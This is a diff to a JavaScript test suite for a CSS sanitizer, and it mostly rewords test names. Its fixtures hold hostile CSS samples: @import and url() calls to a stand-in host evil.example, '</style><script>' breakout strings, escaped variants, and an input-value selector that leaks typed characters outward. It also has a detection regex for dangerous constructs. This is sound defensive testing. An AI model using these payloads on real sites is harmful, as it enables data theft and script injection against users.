@@ -2,10 +2,10 @@ import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 import { safeCss } from './custom-css.policy.js';
 
-/** What a browser could read as an order to load or run something, or as the end of the style element. */
+/** Text that makes a browser load a resource, run code, or end the style element. */
 const dangerous = /<|url\(|@import|expression\(|javascript:|\\75|\\72|evil|behavior|-moz-binding/i;
 
-describe('hostile CSS is taken out, and said to be', () => {
+describe('unsafe CSS is removed and reported', () => {
   it.each([
     ['an import', '@import "//evil.example/x.css";'],
     ['an import by url()', '@import url(//evil.example/x.css);'],
@@ -48,25 +48,25 @@ describe('hostile CSS is taken out, and said to be', () => {
     ['the end of the style element in a string', 'a::after { content: "</style><script>evil()</script>" }'],
     ['the end of the style element in an escaped string', 'a::after { content: "\\3c/style>\\3cscript>evil()" }'],
     ['the end of the style element in a selector', 'a[title="</style><script>evil()"] { color: red }'],
-    ['a comment of HTML', '<!-- a { background: url(//evil.example/x) } -->'],
+    ['an HTML comment', '<!-- a { background: url(//evil.example/x) } -->'],
     ['a font', '@font-face { font-family: evil; src: url(//evil.example/x.woff) }'],
     ['a font of a machine', '@font-face { font-family: evil; src: local("evil") }'],
     ['a set of characters', '@charset "evil";'],
     ['a namespace', '@namespace evil "//evil.example/x";'],
     ['a document rule', '@-moz-document url-prefix("//evil.example") { a { color: red } }'],
-    ['what reads an input letter by letter', 'input[value^="a"] { background-image: url(//evil.example/?a) }'],
+    ['a rule that reads an input letter by letter', 'input[value^="a"] { background-image: url(//evil.example/?a) }'],
     ['a custom property', 'a { --x: url(//evil.example/x) }'],
     ['a custom property with an escape', 'a { --x: \\75rl("//evil.example/x") }'],
     ['a custom property with a block', 'a { --x: { background: url(//evil.example/x) } }'],
-    ['what stands in for a missing variable', 'a { background: var(--x, url(//evil.example/x)) }'],
-    ['what stands in for a missing variable, with an escape', 'a { background: var(--x, \\75rl("//evil.example/x")) }'],
+    ['the fallback of a missing variable', 'a { background: var(--x, url(//evil.example/x)) }'],
+    ['the fallback of a missing variable, with an escape', 'a { background: var(--x, \\75rl("//evil.example/x")) }'],
     ['a nested rule', 'a { &:hover { background: url(//evil.example/x) } }'],
     ['a rule in rules', '@media all { @supports (display: grid) { @layer x { a { background: url(//evil.example/x) } } } }'],
     ['a frame of an animation', '@keyframes x { from { background: url(//evil.example/x) } }'],
     ['a condition', '@supports (background: url(//evil.example/x)) { a { color: red } }'],
     ['a condition with an escape', '@supports (background: \\75rl("//evil.example/x")) { a { color: red } }'],
     ['a name with a null character', 'a { back\0ground: url(//evil.example/x) }'],
-    ['an at-rule that nobody knows', '@evil { a { color: red } }'],
+    ['an unknown at-rule', '@evil { a { color: red } }'],
     ['brackets that are never opened', '}}}) ] a { background: url(//evil.example/x) }'],
     ['a string with a line break', 'a { content: "x\n; background: url(//evil.example/x) }'],
   ])('%s', (_, css) => {
@@ -83,24 +83,27 @@ describe('hostile CSS is taken out, and said to be', () => {
     ['selectors', `${':is('.repeat(8000)} a { color: red }`],
     ['variables', `a { --x: ${'var(--y,'.repeat(4000)}`],
     ['square brackets', '['.repeat(32_000)],
-  ])('when it is nested too deep: %s', (_, css) => {
-    expect(safeCss(css)).toEqual({ css: '', removed: ['all of it: it is nested too deep'] });
+  ])('removes everything when %s are nested too deeply', (_, css) => {
+    expect(safeCss(css)).toEqual({ css: '', removed: ['everything: the CSS is nested too deeply'] });
   });
 
-  it.each(['@', ';', '}', ')', '"', "'", '\\', '/*', '*/', 'a:', 'url(', '<', '@a;', 'a{b:c}', 'a{', '!', '\0', '😀', ':not(a)'])('when it is 32 KiB of %j, and soon', (piece) => {
-    const css = piece.repeat(Math.floor(32_768 / piece.length));
-    const start = performance.now();
-    const safe = safeCss(css);
-    expect(performance.now() - start).toBeLessThan(3000);
-    expect(safe.css).not.toMatch(dangerous);
-    expect(safe.removed.length).toBeLessThan(60);
-  });
+  it.each(['@', ';', '}', ')', '"', "'", '\\', '/*', '*/', 'a:', 'url(', '<', '@a;', 'a{b:c}', 'a{', '!', '\0', '😀', ':not(a)'])(
+    'cleans 32 KiB of %j within 3 seconds',
+    (piece) => {
+      const css = piece.repeat(Math.floor(32_768 / piece.length));
+      const start = performance.now();
+      const safe = safeCss(css);
+      expect(performance.now() - start).toBeLessThan(3000);
+      expect(safe.css).not.toMatch(dangerous);
+      expect(safe.removed.length).toBeLessThan(60);
+    },
+  );
 
-  it('comments go, and what they split stays split', () => {
+  it('comments are removed, and the parts they separate stay separate', () => {
     expect(safeCss('/*! </style><script>evil()</script> */ a { width: expre/**/ssion(1); background: u/**/rl(x) }').css).toBe('a{width:expre ssion(1);background:u rl(x)}');
   });
 
-  it('what is beside it stays, and the remarks say what went', () => {
+  it('safe CSS next to it is kept, and the removed parts are listed', () => {
     expect(safeCss('@import "x"; a { color: red; background: url(//evil.example); margin: 0 } /* note */ b { behavior: x }')).toEqual({
       css: 'a{color:red;margin:0}b{}',
       removed: ['@import', 'background: url()', 'behavior'],
@@ -108,7 +111,7 @@ describe('hostile CSS is taken out, and said to be', () => {
   });
 });
 
-describe('harmless CSS stays', () => {
+describe('safe CSS is kept', () => {
   it.each([
     ['', ''],
     ['a { color: red }', 'a{color:red}'],
@@ -153,8 +156,8 @@ const likeCss = fc.oneof(
   fc.array(fc.oneof(pieces, fc.string({ maxLength: 5 })), { maxLength: 30 }).map((parts) => `a{${parts.join('')}}`),
 );
 
-describe('whatever comes in', () => {
-  it('nothing comes out that loads, runs or ends the style element; and what came out stays as it is', () => {
+describe('any input', () => {
+  it('results in CSS that loads nothing, runs nothing and does not end the style element, and that a second pass leaves unchanged', () => {
     fc.assert(
       fc.property(likeCss, (text) => {
         const { css } = safeCss(text);
